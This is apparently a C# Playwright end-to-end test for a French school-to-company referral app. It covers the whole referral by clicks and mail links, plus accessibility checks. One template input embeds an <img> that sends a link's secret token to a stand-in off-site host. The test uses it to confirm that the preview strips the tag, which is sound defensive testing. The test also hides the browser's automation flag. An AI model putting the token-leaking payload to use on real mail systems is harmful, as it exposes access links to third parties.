using System.Globalization;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Playwright;
using Passerelle.Demo;
using Passerelle.Hosting;
using Passerelle.Storage;
using Passerelle.Tests.Infrastructure;

namespace Passerelle.Tests.Browser;

/// <summary>
/// The whole process with clicks and the mail folder only: the school refers a new candidate, the candidate
/// accepts from the mail, the company accepts with an appointment from its mail, the candidate confirms, the
/// school records "Recruté"; every party sees the same timeline. Accessibility is checked on each page.
/// </summary>
[Trait(Category.Name, Category.Browser)]
public partial class WholeLoopTests
{
    [Fact]
    public async Task A_school_runs_a_referral_from_creation_to_recruitment_with_clicks_and_mails()
    {
        await using var app = await BrowserApp.StartAsync();
        var school = await app.NewPageAsync();
        var violations = new List<string>();
        async Task Check(IPage page, string name) =>
            violations.AddRange((await BrowserApp.AccessibilityViolationsAsync(page)).Select(v => $"{name} – {v}"));

        await school.GotoAsync($"{app.BaseUrl}/ecole/connexion");
        await Check(school, "ecole-connexion");
        await school.GetByLabel("Nom d'utilisateur").FillAsync("demo.ecole");
        await school.GetByLabel("Mot de passe").FillAsync(DemoData.Password);
        await school.GetByLabel("Mot de passe").PressAsync("Enter");
        await Check(school, "liste-ecole");

        // A new candidate, with a CV.
        await school.GetByRole(AriaRole.Link, new() { Name = "Candidats", Exact = true }).ClickAsync();
        await school.GetByLabel("Nom", new() { Exact = true }).FillAsync("Martinez");
        await school.GetByLabel("Prénom").FillAsync("Inès");
        await school.GetByLabel("Adresse e-mail").FillAsync("ines.martinez@example.org");
        await school.GetByRole(AriaRole.Button, new() { Name = "Ajouter le candidat" }).ClickAsync();
        await school.GetByText("MARTINEZ Inès est ajouté(e).").WaitForAsync();
        await Check(school, "candidat");
        await school.GetByLabel("Fichier").SetInputFilesAsync(new FilePayload { Name = "CV Inès.pdf", MimeType = "application/pdf", Buffer = DemoPdf.Create("CV Ines") });
        await school.GetByRole(AriaRole.Button, new() { Name = "Envoyer le document" }).ClickAsync();
        await school.GetByRole(AriaRole.Link, new() { Name = "CV - CV Inès" }).WaitForAsync();

        // The referral: offer, candidate, documents.
        await school.GetByRole(AriaRole.Link, new() { Name = "Nouvelle mise en relation" }).First.ClickAsync();
        await school.GetByLabel("Offre", new() { Exact = true }).SelectOptionAsync(new SelectOptionValue { Label = "Et laboriosam praesentium (Laboriosam Industries)" });
        await school.GetByRole(AriaRole.Button, new() { Name = "Choisir cette offre" }).ClickAsync();
        await Check(school, "nouvelle-mise-en-relation");
        await school.GetByLabel("MARTINEZ Inès").CheckAsync();
        await school.GetByRole(AriaRole.Button, new() { Name = "Créer les mises en relation" }).ClickAsync();
        await school.GetByText("MARTINEZ Inès : mise en relation créée").WaitForAsync();

        // The candidate accepts from the mail — with the keyboard only.
        var candidate = await app.NewPageAsync();
        var offerMail = await app.WaitForMailAsync("Passerelle School vous propose une offre", "ines.martinez@example.org");
        await candidate.GotoAsync(Link(offerMail.Text!, "accepter"));
        await Check(candidate, "candidat-offre");
        await candidate.Keyboard.PressAsync("Tab");
        await FocusAsync(candidate, "Accepter l'offre");
        await candidate.Keyboard.PressAsync("Enter");
        await candidate.GetByText("Merci ! Votre acceptation est enregistrée").WaitForAsync();

        // The company accepts with an appointment from its mail.
        var company = await app.NewPageAsync();
        var proposal = await app.WaitForMailAsync("Proposition de candidat : MARTINEZ Inès");
        // The contact looks at the profile first: the page tells the server once it has been in view with someone at it (a
        // mail scanner's GET records nothing, nor does a browser under automation: this one plays a person's, who moves the
        // mouse), and the school sees the look.
        var scanner = await app.NewPageAsync(); // a scanner's browser, under automation: it runs the script, and records nothing
        await scanner.GotoAsync(Link(proposal.Text!, "profil"));
        await scanner.Mouse.MoveAsync(200, 300);
        await scanner.WaitForTimeoutAsync(3000);
        await using (var db = Open(app))
            (await db.ProfileViews.IgnoreQueryFilters().CountAsync()).ShouldBe(0);
        await company.AddInitScriptAsync("Object.defineProperty(Navigator.prototype, 'webdriver', { get: () => false })");
        var seen = await company.RunAndWaitForResponseAsync(async () =>
        {
            await company.GotoAsync(Link(proposal.Text!, "profil"));
            await company.Mouse.MoveAsync(200, 300);
        }, response => response.Url.Contains("handler=Seen", StringComparison.Ordinal));
        seen.Status.ShouldBe(204);
        await company.GotoAsync(Link(proposal.Text!, "accepter"));
        var day = ParisTime.ToParis(DateTimeOffset.UtcNow.AddDays(3)).Date;
        await company.GetByLabel("Date de rendez-vous").FillAsync(day.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture));
        // Then with the keyboard: type the hour, Tab to each next field, Tab to the button, Enter.
        // (Tab inside a date field walks its day, month and year, so the hour field is focused directly.)
        await company.GetByLabel("Heure", new() { Exact = true }).FocusAsync();
        await company.Keyboard.TypeAsync("11");
        await company.Keyboard.PressAsync("Tab");
        await company.Keyboard.TypeAsync("00");
        await company.Keyboard.PressAsync("Tab");
        await company.Keyboard.TypeAsync("12 rue des Écoles, Bordeaux");
        await FocusAsync(company, "Accepter le candidat");
        await company.Keyboard.PressAsync("Enter");
        await company.GetByText("Le candidat est accepté et le rendez-vous lui est proposé").WaitForAsync();

        // The candidate confirms the appointment.
        var appointmentMail = await app.WaitForMailAsync("Rendez-vous proposé par Laboriosam Industries");
        appointmentMail.Calendar.ShouldNotBeNull();
        await candidate.GotoAsync(Link(appointmentMail.Text!, "confirmer"));
        await Check(candidate, "candidat-rdv");
        await FocusAsync(candidate, "Je confirme ma présence");
        await candidate.Keyboard.PressAsync("Enter");
        await candidate.GetByText("Votre présence est confirmée").WaitForAsync();

        // The appointment takes place (three days pass), then the school records the outcome.
        await MoveAppointmentToThePastAsync(app);
        await school.GotoAsync($"{app.BaseUrl}/ecole/mises-en-relation");
        await school.GetByRole(AriaRole.Link, new() { Name = "MARTINEZ Inès" }).ClickAsync();
        await Check(school, "mise-en-relation");
        (await school.Locator("ul.views").InnerTextAsync()).ShouldContain("Profil consulté par");
        await FocusAsync(school, "Recruté");
        await school.Keyboard.PressAsync("Enter");
        await school.GetByText("Le résultat est enregistré.").WaitForAsync();
        await BrowserApp.ScreenshotAsync(school, "ecole-suivi-complet");

        // Everyone sees the same timeline.
        string[] steps = ["Offre acceptée", "Candidat accepté – RDV proposé", "RDV accepté", "Recruté"];
        var schoolTimeline = await school.Locator("section.timeline").InnerTextAsync();
        await company.GotoAsync($"{app.BaseUrl}/entreprise/connexion");
        await company.GetByLabel("Nom d'utilisateur").FillAsync("demo.entreprise");
        await company.GetByLabel("Mot de passe").FillAsync(DemoData.Password);
        await company.GetByRole(AriaRole.Button, new() { Name = "Se connecter" }).ClickAsync();
        await company.GetByLabel("Centre de formation").SelectOptionAsync(new SelectOptionValue { Label = "Passerelle School" });
        await company.GetByRole(AriaRole.Button, new() { Name = "Choisir" }).ClickAsync();
        await company.GotoAsync($"{app.BaseUrl}/entreprise/candidats/{await ReferralIdAsync(app)}");
        var companyTimeline = await company.Locator("section.timeline").InnerTextAsync();
        foreach (var step in steps)
        {
            schoolTimeline.ShouldContain(step);
            companyTimeline.ShouldContain(step);
        }
        await candidate.ReloadAsync();
        // The candidate's appointment link is now over: its page says so and shows no live state (issue 12).
        var closed = await candidate.Locator("body").InnerTextAsync();
        closed.ShouldContain("Cette étape est terminée");
        closed.ShouldNotContain("recruté");

        // The school's other pages, for accessibility.
        await school.GotoAsync($"{app.BaseUrl}/ecole/tableau-de-bord");
        await Check(school, "tableau-de-bord");
        await school.GotoAsync($"{app.BaseUrl}/ecole/entreprises");
        await Check(school, "entreprises");

        // The school admin's pages.
        var admin = await app.NewPageAsync();
        await admin.GotoAsync($"{app.BaseUrl}/ecole/connexion");
        await admin.GetByLabel("Nom d'utilisateur").FillAsync("demo.admin");
        await admin.GetByLabel("Mot de passe").FillAsync(DemoData.Password);
        await admin.GetByRole(AriaRole.Button, new() { Name = "Se connecter" }).ClickAsync();
        foreach (var path in new[] { "/ecole/modeles", "/ecole/modeles/referral.offer_to_candidate", "/ecole/parametres", "/ecole/equipe", "/ecole/mails", "/ecole/candidats" })
        {
            await admin.GotoAsync($"{app.BaseUrl}{path}");
            await Check(admin, path);
        }

        // A template that would send a link's token off-site in an image: the preview shows the mail without it, and says so.
        await admin.GotoAsync($"{app.BaseUrl}/ecole/modeles/referral.offer_to_candidate");
        await admin.Locator("textarea[name=Body]").FillAsync(
            "<p>Bonjour {{candidat.prenom}}</p><img src=\"https://elsewhere.example/?{{liens.accepterOffre}}\">{{bouton liens.accepterOffre \"J'accepte\"}}");
        await admin.GetByRole(AriaRole.Button, new() { Name = "Aperçu" }).ClickAsync();
        await Assertions.Expect(admin.GetByRole(AriaRole.Status).Filter(new() { HasText = "Retiré du mail" })).ToContainTextAsync("<img>");
        var preview = admin.FrameLocator("iframe[title='Aperçu du mail']");
        await Assertions.Expect(preview.GetByRole(AriaRole.Link, new() { Name = "J'accepte" })).ToBeVisibleAsync();
        (await preview.Locator("img").CountAsync()).ShouldBe(0);
        await BrowserApp.ScreenshotAsync(admin, "modele-apercu", admin.Locator("iframe[title='Aperçu du mail']"));
        await Check(admin, "modele-apercu");

        violations.ShouldBeEmpty();
        app.CspViolations.ShouldBeEmpty("every page works under the Content-Security-Policy");
    }

    private static string Link(string text, string action) =>
        LinkPattern().Matches(text).Select(m => m.Value).First(l => l.EndsWith($"/{action}", StringComparison.Ordinal));

    /// <summary>Tabs until the button has the focus, as a keyboard user does.</summary>
    private static async Task FocusAsync(IPage page, string button)
    {
        for (var i = 0; i < 60; i++)
        {
            if (await page.EvaluateAsync<string>("() => document.activeElement?.textContent?.trim() ?? ''") == button)
                return;
            await page.Keyboard.PressAsync("Tab");
        }
        throw new InvalidOperationException($"'{button}' cannot be reached with the keyboard");
    }

    private static PasserelleDb Open(BrowserApp app)
    {
        var builder = new DbContextOptionsBuilder<PasserelleDb>();
        PasserelleApp.UseDatabase(builder, app.Database);
        return new PasserelleDb(builder.Options).ForSchool(DemoData.SchoolId);
    }

    private static async Task<Guid> ReferralIdAsync(BrowserApp app)
    {
        await using var db = Open(app);
        return await (from r in db.Referrals join c in db.Candidates on r.CandidateId equals c.Id where c.LastName == "Martinez" select r.Id).SingleAsync();
    }

    private static async Task MoveAppointmentToThePastAsync(BrowserApp app)
    {
        var id = await ReferralIdAsync(app);
        await using var db = Open(app);
        var past = DateTimeOffset.UtcNow.AddHours(-2);
        await db.Referrals.Where(r => r.Id == id).ExecuteUpdateAsync(set => set.SetProperty(r => r.AppointmentStartsAt, past));
    }

    [GeneratedRegex(@"http://127\.0\.0\.1:\d+/l/[A-Za-z0-9_-]{43}(/[a-z.]+)?")]
    private static partial Regex LinkPattern();
}
